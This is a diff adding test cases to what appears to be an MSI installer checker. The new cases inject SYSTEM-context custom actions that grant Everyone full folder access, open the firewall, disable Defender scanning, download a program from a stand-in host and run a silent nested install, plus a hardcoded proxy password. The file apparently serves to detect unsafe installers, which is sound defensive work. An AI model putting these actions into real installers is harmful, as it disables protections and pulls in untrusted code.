@@ -7,6 +7,8 @@ _ACTION = "INSERT INTO `CustomAction` (`Action`, `Type`, `Source`, `Target`) VAL
 _PROPERTY = "INSERT INTO `Property` (`Property`, `Value`) VALUES "
 _REGISTRY = "INSERT INTO `Registry` (`Registry`, `Root`, `Key`, `Name`, `Value`, `Component_`) VALUES "
 _NEVER = "BVT_NEVER_SET"
+_AS_SYSTEM = 34 + 1024 + 2048
+"""A command, deferred, in the system's context."""
 _RUN = r"Software\Microsoft\Windows\CurrentVersion\Run"
 
 BY_NAME: dict[str, tuple[str, ...]] = {
@@ -29,6 +31,43 @@ BY_NAME: dict[str, tuple[str, ...]] = {
         "UPDATE `Property` SET `Value` = 'ENROLSECRET' WHERE `Property` = 'MsiHiddenProperties'",
     ),
     "sweeps-all-files": (_PROPERTY + "('REINSTALLMODE', 'amus')",),
+    "narrow-component": ("UPDATE `Component` SET `Attributes` = 0 WHERE `Component` = 'Notice'",),
+    "command-opens-its-folder": (
+        _ACTION
+        + rf"('OpenFolder', {_AS_SYSTEM}, 'TARGETDIR', '[System64Folder]icacls.exe [INSTALLDIR] /grant Everyone:F')",
+        _SEQUENCE + f"('OpenFolder', '{_NEVER}', 5863)",
+    ),
+    "command-opens-the-firewall": (
+        _ACTION
+        + f"('OpenDoor', {_AS_SYSTEM}, 'TARGETDIR', '[System64Folder]netsh.exe advfirewall firewall add rule "
+        "name=BVT dir=in action=allow')",
+        _SEQUENCE + f"('OpenDoor', '{_NEVER}', 5864)",
+    ),
+    "command-turns-scans-off": (
+        _ACTION
+        + f"('NoScans', {_AS_SYSTEM}, 'TARGETDIR', '[System64Folder]WindowsPowerShell\\v1.0\\powershell.exe "
+        "Set-MpPreference -DisableRealtimeMonitoring 1')",
+        _SEQUENCE + f"('NoScans', '{_NEVER}', 5865)",
+    ),
+    "fetches-a-program": (
+        _ACTION
+        + f"('Fetch', {_AS_SYSTEM}, 'TARGETDIR', '[System64Folder]curl.exe -O http://updates.example/more.exe')",
+        _SEQUENCE + f"('Fetch', '{_NEVER}', 5866)",
+    ),
+    "nested-installation": (
+        _ACTION
+        + f"('Nest', {_AS_SYSTEM}, 'TARGETDIR', '[System64Folder]msiexec.exe /i [INSTALLDIR]more.msi /qn')",
+        _SEQUENCE + f"('Nest', '{_NEVER}', 5867)",
+    ),
+    "never-awaited": (
+        _ACTION + f"('Alone', {_AS_SYSTEM + 192}, 'TARGETDIR', '[System64Folder]hostname.exe')",
+        _SEQUENCE + f"('Alone', '{_NEVER}', 5868)",
+    ),
+    "reboots-when-it-fails": (
+        "UPDATE `MsiServiceConfigFailureActions` SET `Actions` = '1[~]1[~]2', `Event` = 1",
+    ),
+    "user-control": (_PROPERTY + "('EnableUserControl', '1')",),
+    "password-in-property": (_PROPERTY + "('PROXYPASSWORD', 'Winter2023x')",),
     "service-stays-by-table": (
         "UPDATE `ServiceControl` SET `Event` = 3 WHERE `ServiceControl` = 'AgentControl'",
     ),
